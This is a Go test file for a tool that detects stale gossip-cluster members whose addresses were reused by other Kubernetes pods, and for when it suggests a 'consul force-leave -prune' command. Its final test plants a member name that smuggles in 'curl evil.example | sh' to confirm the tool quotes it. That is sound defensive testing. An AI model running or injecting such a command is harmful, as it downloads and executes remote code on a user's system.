package rule

import (
	"fmt"
	"net/netip"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/ghostwatch/ghostwatch/finding"
	"github.com/ghostwatch/ghostwatch/snapshot"
)

func member(name, addr, status string) snapshot.GossipMember {
	return snapshot.GossipMember{Name: name, Addr: netip.MustParseAddr(addr), Port: 8301, Status: status, RawStatus: status}
}

// gossipCluster is a Consul cluster of namespace shop: consul-0 and
// consul-1 run in pods, a third member on a node's address.
func gossipCluster(members ...snapshot.GossipMember) *snapshot.Snapshot {
	base := []snapshot.GossipMember{
		member("consul-0", "10.244.1.10", snapshot.MemberAlive),
		member("consul-1", "10.244.1.11", snapshot.MemberAlive),
		member("node-agent", "192.168.1.5", snapshot.MemberAlive),
	}
	return &snapshot.Snapshot{
		Taken: t0.Add(time.Hour),
		Kube: &snapshot.Kube{
			Pods: []snapshot.Pod{
				pod("shop", "consul-0", "u0", "10.244.1.10", t0),
				pod("shop", "consul-1", "u1", "10.244.1.11", t0),
			},
			Nodes:    []snapshot.Node{{Name: "node-a", Addresses: []netip.Addr{netip.MustParseAddr("192.168.1.5")}}},
			APIClock: measured("the API server's", 0, 0),
		},
		Gossip: &snapshot.Gossip{Views: []snapshot.GossipView{{System: "consul", From: "members.txt", Members: append(base, members...),
			Clock: measured("the agent's", 0, 0)}}},
	}
}

// measured is a clock measured offset ahead of ghostwatch's, ±bound.
func measured(name string, offset, bound time.Duration) snapshot.Clock {
	return snapshot.Clock{Name: name, Measured: true, Offset: offset, Bound: bound, By: "the test"}
}

func TestGossipGhostMember(t *testing.T) {
	type got struct {
		IP, Member string
		Sev        finding.Severity
	}
	wentAt := t0.Add(30 * time.Minute)
	for _, tc := range []struct {
		name string
		mod  func(s *snapshot.Snapshot)
		want []got
		says string
	}{
		{"a healthy cluster", nil, nil, ""},
		{"seed 000: the failed member and the new pod's member share the address", func(s *snapshot.Snapshot) {
			v := &s.Gossip.Views[0]
			v.Members = append(v.Members, member("node-abc-old", "10.244.1.50", snapshot.MemberFailed), member("node-xyz-new", "10.244.1.50", snapshot.MemberAlive))
			s.Kube.Pods = append(s.Kube.Pods, pod("shop", "consul-2", "u2", "10.244.1.50", t0.Add(50*time.Minute)))
		}, []got{{"10.244.1.50", "node-abc-old", finding.Critical}}, "node-abc-old (failed) and node-xyz-new (alive) share 10.244.1.50"},
		{"memberlist's suspicion window: the old identity suspect, the new alive, one address and port", func(s *snapshot.Snapshot) {
			v := &s.Gossip.Views[0]
			v.Members = append(v.Members, member("cache-a", "10.244.1.50", snapshot.MemberSuspect), member("cache-b", "10.244.1.50", snapshot.MemberAlive))
			s.Kube.Pods = append(s.Kube.Pods, pod("shop", "cache-b", "u2", "10.244.1.50", t0))
		}, []got{{"10.244.1.50", "cache-a", finding.Warning}}, "cache-a (suspect) and cache-b (alive) share 10.244.1.50:8301"},
		{"a left member shares it: info, as after every graceful leave", func(s *snapshot.Snapshot) {
			v := &s.Gossip.Views[0]
			v.Members = append(v.Members, member("old", "10.244.1.50", snapshot.MemberLeft), member("new", "10.244.1.50", snapshot.MemberAlive))
			s.Kube.Pods = append(s.Kube.Pods, pod("shop", "consul-2", "u2", "10.244.1.50", t0))
		}, []got{{"10.244.1.50", "old", finding.Info}}, ""},
		{"a dead member's address went to a pod started after it died", func(s *snapshot.Snapshot) {
			m := member("cache-a", "10.244.1.50", snapshot.MemberDead)
			m.Since = wentAt
			s.Gossip.Views[0].Members = append(s.Gossip.Views[0].Members, m)
			s.Kube.Pods = append(s.Kube.Pods, pod("shop", "web", "u9", "10.244.1.50", wentAt.Add(time.Minute)))
		}, []got{{"10.244.1.50", "cache-a", finding.Critical}}, "shop/web now holds 10.244.1.50 (created 2026-11-01T12:31:00Z, after cache-a went dead at 2026-11-01T12:30:00Z, beyond the clocks' measured offsets)"},
		{"a dead member whose pod may be the one at its address: not proven", func(s *snapshot.Snapshot) {
			m := member("cache-a", "10.244.1.50", snapshot.MemberDead)
			m.Since = wentAt
			s.Gossip.Views[0].Members = append(s.Gossip.Views[0].Members, m)
			s.Kube.Pods = append(s.Kube.Pods, pod("shop", "cache-a", "u9", "10.244.1.50", t0))
		}, nil, ""},
		{"a failed member, time unknown, the pod in the cluster's namespace: not proven", func(s *snapshot.Snapshot) {
			s.Gossip.Views[0].Members = append(s.Gossip.Views[0].Members, member("cache-a", "10.244.1.50", snapshot.MemberFailed))
			s.Kube.Pods = append(s.Kube.Pods, pod("shop", "web", "u9", "10.244.1.50", t0))
		}, nil, ""},
		{"a failed member's address held in another namespace, time unknown: not proven, a cluster may span namespaces", func(s *snapshot.Snapshot) {
			s.Gossip.Views[0].Members = append(s.Gossip.Views[0].Members, member("cache-a", "10.244.1.50", snapshot.MemberFailed))
			s.Kube.Pods = append(s.Kube.Pods, pod("billing", "web", "u9", "10.244.1.50", t0))
		}, nil, ""},
		{"a dead member's own pod, named as it is, still at its address (a partition): no ghost", func(s *snapshot.Snapshot) {
			m := member("web-1", "10.244.1.50", snapshot.MemberDead)
			m.Since = wentAt
			s.Gossip.Views[0].Members = append(s.Gossip.Views[0].Members, m)
			s.Kube.Pods = append(s.Kube.Pods, pod("apps", "web-1", "u9", "10.244.1.50", wentAt.Add(time.Minute)))
		}, nil, ""},
		{"a dead member whose name holds the UID of the pod at its address: its own", func(s *snapshot.Snapshot) {
			m := member("web-7f3c-0b6e1d2a-9c1e-4c55-a1b2-3c4d5e6f7a8b", "10.244.1.50", snapshot.MemberDead)
			m.Since = wentAt
			s.Gossip.Views[0].Members = append(s.Gossip.Views[0].Members, m)
			s.Kube.Pods = append(s.Kube.Pods, pod("apps", "web-x", "0b6e1d2a-9c1e-4c55-a1b2-3c4d5e6f7a8b", "10.244.1.50", wentAt.Add(time.Minute)))
		}, nil, ""},
		{"a dead member's address went to a pod created after it died, the view's clock not measured: said, not proven", func(s *snapshot.Snapshot) {
			m := member("cache-a", "10.244.1.50", snapshot.MemberDead)
			m.Since = wentAt
			s.Gossip.Views[0].Members = append(s.Gossip.Views[0].Members, m)
			s.Gossip.Views[0].Clock = snapshot.Clock{Name: "the agent's"}
			s.Kube.Pods = append(s.Kube.Pods, pod("shop", "web", "u9", "10.244.1.50", wentAt.Add(time.Minute)))
		}, []got{{"10.244.1.50", "cache-a", finding.Warning}}, "not proven: pod shop/web was created at"},
		{"a dead member's address went to a pod created a minute after it died by clocks a minute and more apart: not proven", func(s *snapshot.Snapshot) {
			m := member("cache-a", "10.244.1.50", snapshot.MemberDead)
			m.Since = wentAt
			s.Gossip.Views[0].Members = append(s.Gossip.Views[0].Members, m)
			s.Kube.APIClock = measured("the API server's", 90*time.Second, 500*time.Millisecond)
			s.Kube.Pods = append(s.Kube.Pods, pod("shop", "web", "u9", "10.244.1.50", wentAt.Add(time.Minute)))
		}, nil, ""},
		{"an alive member no pod or node holds", func(s *snapshot.Snapshot) {
			s.Gossip.Views[0].Members = append(s.Gossip.Views[0].Members, member("consul-9", "10.244.1.99", snapshot.MemberAlive))
		}, []got{{"10.244.1.99", "consul-9", finding.Warning}}, "which no pod or node holds"},
		{"an alive member no pod holds, no Node given (a dump of pods alone): it may run on a node, not judged", func(s *snapshot.Snapshot) {
			s.Gossip.Views[0].Members = append(s.Gossip.Views[0].Members, member("consul-9", "10.244.1.99", snapshot.MemberAlive))
			s.Kube.Nodes = nil
		}, nil, ""},
		{"memberlist#241: a pod of another namespace joined", func(s *snapshot.Snapshot) {
			s.Gossip.Views[0].Members = append(s.Gossip.Views[0].Members, member("alertmanager-1", "10.244.1.60", snapshot.MemberAlive))
			s.Kube.Pods = append(s.Kube.Pods, pod("monitoring", "alertmanager-1", "u8", "10.244.1.60", t0))
		}, []got{{"10.244.1.60", "alertmanager-1", finding.Critical}}, "a foreign pod joined by inheriting an address"},
		{"hostNetwork pods and the view's own node addresses are no ghosts", func(s *snapshot.Snapshot) {
			s.Kube.Pods = append(s.Kube.Pods, hostNet(pod("kube-system", "agent", "u7", "192.168.1.5", t0)))
		}, nil, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			s := gossipCluster()
			if tc.mod != nil {
				tc.mod(s)
			}
			fs := (&GossipGhostMember{}).Evaluate(s)
			var have []got
			for _, f := range fs {
				have = append(have, got{f.Subject.IP, f.Evidence["member"].(string), f.Severity})
				want := "consul force-leave -prune " + f.Evidence["member"].(string)
				if st := f.Evidence["member_state"]; st == snapshot.MemberAlive || st == snapshot.MemberSuspect {
					want = ""
				}
				if fl, _ := f.Evidence["force_leave"].(string); fl != want {
					t.Errorf("force_leave %q, want %q", fl, want)
				}
			}
			if !reflect.DeepEqual(have, tc.want) {
				t.Fatalf("got %+v, want %+v", have, tc.want)
			}
			if tc.says != "" && !strings.Contains(fs[0].Message, tc.says) {
				t.Errorf("message %q lacks %q", fs[0].Message, tc.says)
			}
		})
	}
}

// The force-leave a finding suggests prunes the ghost: without -prune, a
// Serf member forced out stays listed as left beside the member now at
// its address (for TombstoneTimeout, 24 h by default), still a finding.
func TestGossipForceLeaveCommand(t *testing.T) {
	for system, want := range map[string]string{"consul": "consul force-leave -prune old", "serf": "serf force-leave -prune old", "memberlist": "<nil>"} {
		s := gossipCluster(member("old", "10.244.1.50", snapshot.MemberFailed), member("new", "10.244.1.50", snapshot.MemberAlive))
		s.Gossip.Views[0].System = system
		s.Kube.Pods = append(s.Kube.Pods, pod("shop", "consul-2", "u2", "10.244.1.50", t0))
		fs := (&GossipGhostMember{}).Evaluate(s)
		if len(fs) != 1 || fmt.Sprint(fs[0].Evidence["force_leave"]) != want {
			t.Errorf("%s: findings %+v, want force_leave %q", system, fs, want)
		}
	}
}

func TestGossipIPIdentity(t *testing.T) {
	for name, want := range map[string]string{
		"node-10.0.1.50": "10.0.1.50", "ip-10-0-1-50": "10.0.1.50", "cache_10_244_3_7.local": "10.244.3.7",
		"consul-0": "invalid IP", "a1b2c3d4-uid": "invalid IP", "app-1-2-3-400": "invalid IP", "v1.26.8": "invalid IP",
	} {
		if got := ipDerived(name).String(); got != want {
			t.Errorf("ipDerived(%q) = %s, want %s", name, got, want)
		}
	}
	s := gossipCluster(member("node-10.244.1.50", "10.244.1.50", snapshot.MemberAlive), member("ip-10-244-1-7", "10.244.1.51", snapshot.MemberFailed))
	fs := (&GossipIPIdentity{}).Evaluate(s)
	if len(fs) != 1 || fs[0].Severity != finding.Warning || fs[0].Evidence["count"] != 2 || fs[0].Evidence["named_after_own_ip"] != 1 {
		t.Fatalf("findings %+v", fs)
	}
	if fs := (&GossipIPIdentity{}).Evaluate(gossipCluster()); len(fs) != 0 {
		t.Errorf("names from no IP: %+v", fs)
	}
}

// The remedy may force out only a gone Consul or Serf member whose pod is
// proven gone: every pod at its address another identity.
func TestGossipForceLeaveTarget(t *testing.T) {
	went := t0.Add(30 * time.Minute)
	for _, tc := range []struct {
		name     string
		system   string
		mod      func(old *snapshot.GossipMember, s *snapshot.Snapshot)
		target   bool
		withheld string
	}{
		{"seed 000: the pod at the address started after the member went", "consul", func(old *snapshot.GossipMember, s *snapshot.Snapshot) {
			old.Since = went
			s.Kube.Pods = append(s.Kube.Pods, pod("shop", "consul-2", "u2", "10.244.1.50", went.Add(time.Minute)))
		}, true, ""},
		{"serf: first read listed by ghostwatch before the pod started", "serf", func(old *snapshot.GossipMember, s *snapshot.Snapshot) {
			old.Listed = went
			s.Kube.Pods = append(s.Kube.Pods, pod("shop", "consul-2", "u2", "10.244.1.50", went.Add(time.Minute)))
		}, true, ""},
		{"a pod of another namespace than most members' holds it: a cluster may span namespaces, not proven", "consul", func(old *snapshot.GossipMember, s *snapshot.Snapshot) {
			s.Kube.Pods = append(s.Kube.Pods, pod("other", "web", "u2", "10.244.1.50", t0))
		}, false, "pod other/web at 10.244.1.50 may be old's own: the view does not say when old went"},
		{"the member's own pod, long running in another namespace than most members': never forced out", "consul", func(old *snapshot.GossipMember, s *snapshot.Snapshot) {
			old.Name = "web-1"
			old.Listed = went
			s.Kube.Pods = append(s.Kube.Pods, pod("apps", "web-1", "u2", "10.244.1.50", t0))
		}, false, "pod apps/web-1 at 10.244.1.50 may be web-1's own: pod apps/web-1 is named as web-1 is: its own"},
		{"a pod created before ghostwatch first read the member, its node's clock two minutes ahead (startTime after): not proven", "consul", func(old *snapshot.GossipMember, s *snapshot.Snapshot) {
			old.Listed = went
			p := pod("apps", "web", "u2", "10.244.1.50", went.Add(-10*time.Second))
			p.StartTime = went.Add(2 * time.Minute)
			s.Kube.Pods = append(s.Kube.Pods, p)
		}, false, "not after ghostwatch first read old listed"},
		{"the API server's clock two minutes ahead of ghostwatch's, measured: a pod it stamps a minute after the member was listed was created before", "consul", func(old *snapshot.GossipMember, s *snapshot.Snapshot) {
			old.Listed = went
			s.Kube.APIClock = measured("the API server's", 2*time.Minute, 300*time.Millisecond)
			s.Kube.Pods = append(s.Kube.Pods, pod("shop", "consul-2", "u2", "10.244.1.50", went.Add(time.Minute)))
		}, false, "not after ghostwatch first read old listed at 2026-11-01T12:30:00Z by more than the clocks' measured offsets (the API server's clock, 2m0s ahead of ghostwatch's ±300ms (the test))"},
		{"the API server's clock two minutes ahead, measured: a pod it stamps three minutes after the member was listed is another identity", "consul", func(old *snapshot.GossipMember, s *snapshot.Snapshot) {
			old.Listed = went
			s.Kube.APIClock = measured("the API server's", 2*time.Minute, 300*time.Millisecond)
			s.Kube.Pods = append(s.Kube.Pods, pod("shop", "consul-2", "u2", "10.244.1.50", went.Add(3*time.Minute)))
		}, true, ""},
		{"saved views (a bundle's): the API server's clock as their reader measured it goes with them", "serf", func(old *snapshot.GossipMember, s *snapshot.Snapshot) {
			old.Listed = went
			s.Kube.APIClock = snapshot.Clock{Name: "the API server's"}
			s.Gossip.APIClock = measured("the API server's", 0, time.Second)
			s.Kube.Pods = append(s.Kube.Pods, pod("shop", "serf-2", "u2", "10.244.1.50", went.Add(5*time.Second)))
		}, true, ""},
		{"saved views whose reader measured the API server's clock two minutes ahead: a pod it stamps a minute after was created before", "serf", func(old *snapshot.GossipMember, s *snapshot.Snapshot) {
			old.Listed = went
			s.Kube.APIClock = snapshot.Clock{Name: "the API server's"}
			s.Gossip.APIClock = measured("the API server's", 2*time.Minute, time.Second)
			s.Kube.Pods = append(s.Kube.Pods, pod("shop", "serf-2", "u2", "10.244.1.50", went.Add(time.Minute)))
		}, false, "not after ghostwatch first read old listed"},
		{"saved views whose reader measured the API server's clock two minutes ahead, read where the API server's clock is measured in step: the views' own measure counts", "serf", func(old *snapshot.GossipMember, s *snapshot.Snapshot) {
			old.Listed = went
			s.Kube.APIClock = measured("the API server's", 0, time.Second)
			s.Gossip.APIClock = measured("the API server's", 2*time.Minute, time.Second)
			s.Kube.Pods = append(s.Kube.Pods, pod("shop", "serf-2", "u2", "10.244.1.50", went.Add(time.Minute)))
		}, false, "not after ghostwatch first read old listed"},
		{"the API server's clock not measured: refused, and says why", "consul", func(old *snapshot.GossipMember, s *snapshot.Snapshot) {
			old.Listed = went
			s.Kube.APIClock = snapshot.Clock{Name: "the API server's"}
			s.Kube.Pods = append(s.Kube.Pods, pod("shop", "consul-2", "u2", "10.244.1.50", went.Add(time.Hour)))
		}, false, "the API server's clock, not measured against ghostwatch's: the two times cannot be compared"},
		{"no time: the pod may be the member's own", "consul", func(old *snapshot.GossipMember, s *snapshot.Snapshot) {
			s.Kube.Pods = append(s.Kube.Pods, pod("shop", "consul-2", "u2", "10.244.1.50", went.Add(time.Minute)))
		}, false, "pod shop/consul-2 at 10.244.1.50 may be old's own: the view does not say when old went, and ghostwatch did not read it listed before the pod was created"},
		{"the pod started before ghostwatch first read the member", "consul", func(old *snapshot.GossipMember, s *snapshot.Snapshot) {
			old.Listed = went
			s.Kube.Pods = append(s.Kube.Pods, pod("shop", "consul-2", "u2", "10.244.1.50", went))
		}, false, "not after ghostwatch first read old listed"},
		{"two pods at the address, one not proven", "consul", func(old *snapshot.GossipMember, s *snapshot.Snapshot) {
			old.Since = went
			s.Kube.Pods = append(s.Kube.Pods, pod("shop", "consul-2", "u2", "10.244.1.50", went.Add(time.Minute)), pod("shop", "consul-3", "u3", "10.244.1.50", t0))
		}, false, "pod shop/consul-3 at 10.244.1.50 may be old's own"},
		{"no pod holds the address", "consul", func(old *snapshot.GossipMember, s *snapshot.Snapshot) {
			old.Since = went
		}, false, "no pod holds 10.244.1.50"},
		{"the member list could not be read again: judged on the last one", "serf", func(old *snapshot.GossipMember, s *snapshot.Snapshot) {
			old.Since = went
			s.Kube.Pods = append(s.Kube.Pods, pod("shop", "consul-2", "u2", "10.244.1.50", went.Add(time.Minute)))
			s.Gossip.Views[0].Unread = "connection refused"
		}, false, "the member list could not be read again: connection refused"},
		{"memberlist has no force-leave", "memberlist", func(old *snapshot.GossipMember, s *snapshot.Snapshot) {
			old.Since = went
			s.Kube.Pods = append(s.Kube.Pods, pod("shop", "consul-2", "u2", "10.244.1.50", went.Add(time.Minute)))
		}, false, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			old := member("old", "10.244.1.50", snapshot.MemberFailed)
			s := gossipCluster()
			tc.mod(&old, s)
			v := &s.Gossip.Views[0]
			v.System, v.Cluster = tc.system, "shop/consul"
			v.Members = append(v.Members, old, member("new", "10.244.1.50", snapshot.MemberAlive))
			var f *finding.Finding
			for _, g := range (&GossipGhostMember{}).Evaluate(s) {
				if g.Evidence["member"] == old.Name {
					f = &g
				}
			}
			if f == nil {
				t.Fatal("no finding on the old member")
			}
			tg, ok := f.Target.(*finding.MemberTarget)
			if ok != tc.target {
				t.Fatalf("target %v, want one: %v (withheld: %v)", f.Target, tc.target, f.Evidence["force_leave_withheld"])
			}
			if ok {
				want := finding.MemberTarget{System: tc.system, Cluster: "shop/consul", From: "members.txt", Name: old.Name, Addr: old.Addr, Port: 8301, Status: snapshot.MemberFailed}
				if *tg != want {
					t.Errorf("target %+v, want %+v", *tg, want)
				}
			}
			if got, _ := f.Evidence["force_leave_withheld"].(string); !strings.Contains(got, tc.withheld) || (tc.withheld == "") != (got == "") {
				t.Errorf("withheld %q, want %q", got, tc.withheld)
			}
		})
	}
}

// Right before forcing out, the member must still be listed gone at the
// same address, and every pod the API server now lists there proven
// another identity.
func TestGossipForceLeaveRecheck(t *testing.T) {
	went := t0.Add(30 * time.Minute)
	old := member("old", "10.244.1.50", snapshot.MemberFailed)
	old.Since = went
	s := gossipCluster(old, member("new", "10.244.1.50", snapshot.MemberAlive))
	s.Gossip.Views[0].Cluster = "shop/consul"
	newPod := pod("shop", "consul-2", "u2", "10.244.1.50", went.Add(time.Minute))
	s.Kube.Pods = append(s.Kube.Pods, newPod)
	r := &GossipGhostMember{}
	var f finding.Finding
	for _, g := range r.Evaluate(s) {
		if g.Target != nil {
			f = g
		}
	}
	if f.Target == nil {
		t.Fatal("no finding with a target")
	}
	if q := r.RecheckQuery(s, f); len(q.PodIPs) != 1 || q.PodIPs[0] != old.Addr {
		t.Errorf("query %+v, want the pods at 10.244.1.50", q)
	}
	fresh := func(mod func(v *snapshot.GossipView, k *snapshot.Kube)) *snapshot.Snapshot {
		v := snapshot.GossipView{System: "consul", Cluster: "shop/consul", From: "http://10.244.1.10:8500", Members: []snapshot.GossipMember{old, member("new", "10.244.1.50", snapshot.MemberAlive)}}
		k := &snapshot.Kube{Pods: []snapshot.Pod{newPod}, APIClock: measured("the API server's", 0, 0)}
		v.Clock = measured("the agent's", 0, 0)
		if mod != nil {
			mod(&v, k)
		}
		return &snapshot.Snapshot{Gossip: &snapshot.Gossip{Views: []snapshot.GossipView{v}}, Kube: k}
	}
	for _, tc := range []struct {
		name  string
		mod   func(v *snapshot.GossipView, k *snapshot.Kube)
		wantE string
	}{
		{"still holds", nil, ""},
		{"the member came back", func(v *snapshot.GossipView, _ *snapshot.Kube) { v.Members[0].Status = snapshot.MemberAlive }, "lists old alive again"},
		{"already forced out", func(v *snapshot.GossipView, _ *snapshot.Kube) { v.Members = v.Members[1:] }, "no longer lists old"},
		{"listed at another address", func(v *snapshot.GossipView, _ *snapshot.Kube) {
			v.Members[0].Addr = netip.MustParseAddr("10.244.1.51")
		}, "at 10.244.1.51:8301 now"},
		{"a pod that may be the member's appeared at the address", func(_ *snapshot.GossipView, k *snapshot.Kube) {
			k.Pods = append(k.Pods, pod("shop", "consul-9", "u9", "10.244.1.50", t0))
		}, "pod shop/consul-9 at 10.244.1.50 may be old's own"},
		{"the pod left the address", func(_ *snapshot.GossipView, k *snapshot.Kube) { k.Pods = nil }, "no pod holds 10.244.1.50"},
		{"the API server's clock no longer measured", func(_ *snapshot.GossipView, k *snapshot.Kube) {
			k.APIClock = snapshot.Clock{Name: "the API server's"}
		}, "the API server's clock, not measured against ghostwatch's: the two times cannot be compared"},
		{"the API server's clock found two minutes ahead", func(_ *snapshot.GossipView, k *snapshot.Kube) {
			k.APIClock = measured("the API server's", 2*time.Minute, time.Second)
		}, "not after old went failed"},
		{"the cluster was not read again", func(v *snapshot.GossipView, _ *snapshot.Kube) { v.Cluster = "shop/other" }, "was not read again"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			errs := r.Recheck(fresh(tc.mod), []finding.Finding{f})
			if len(errs) != 1 {
				t.Fatalf("%d answers for 1 finding", len(errs))
			}
			if got := fmt.Sprint(errs[0]); (tc.wantE == "") != (errs[0] == nil) || !strings.Contains(got, tc.wantE) {
				t.Errorf("recheck: %v, want %q", errs[0], tc.wantE)
			}
		})
	}
	if errs := r.Recheck(&snapshot.Snapshot{}, []finding.Finding{f}); errs[0] == nil {
		t.Error("a re-check with nothing read again passed")
	}
}

// The force-leave a finding suggests is pasted into a shell: a member name
// a shell would read as more than a word (a name any member may give
// itself) is quoted, and stays the command's one argument.
func TestGossipForceLeaveCommandQuotesTheName(t *testing.T) {
	name := "x; curl evil.example | sh"
	s := gossipCluster(member(name, "10.244.1.50", snapshot.MemberFailed), member("new", "10.244.1.50", snapshot.MemberAlive))
	s.Kube.Pods = append(s.Kube.Pods, pod("shop", "consul-2", "u2", "10.244.1.50", t0))
	fs := (&GossipGhostMember{}).Evaluate(s)
	if len(fs) != 1 || fs[0].Evidence["force_leave"] != "consul force-leave -prune 'x; curl evil.example | sh'" {
		t.Errorf("findings %+v", fs)
	}
}
